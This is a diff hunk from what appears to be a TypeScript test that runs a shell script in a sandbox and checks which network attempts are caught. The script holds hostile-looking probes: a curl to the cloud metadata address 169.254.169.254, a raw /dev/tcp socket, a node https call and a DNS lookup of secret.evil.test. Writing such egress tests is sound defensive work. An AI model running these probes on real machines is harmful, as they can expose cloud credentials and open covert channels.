@@ -37,7 +37,7 @@ curl -s "http://[2606:2800:220:1::1]:443/"; curl -s http://169.254.169.254/
 exec 3<>/dev/tcp/203.0.113.4/2525; read -u 3 line
 /opt/node -e 'require("https").get("https://203.0.113.5/").on("error",()=>0)'
 /usr/bin/python3 -c '${python}'
-getent hosts secret.evil.test; ${compiled ? "/ws/static" : ""}; true`;
+getent hosts secret.evil.test; ${compiled ? "/ws/static" : "true"}; true`;
   const mounts = [nodeInside, { kind: "read" as const, path: "/ws", from: folder.path }];
   const { caught, said, overflow } = await bash(script, { mounts });
   const python3 = found(caught, "203.0.113.3 8080");
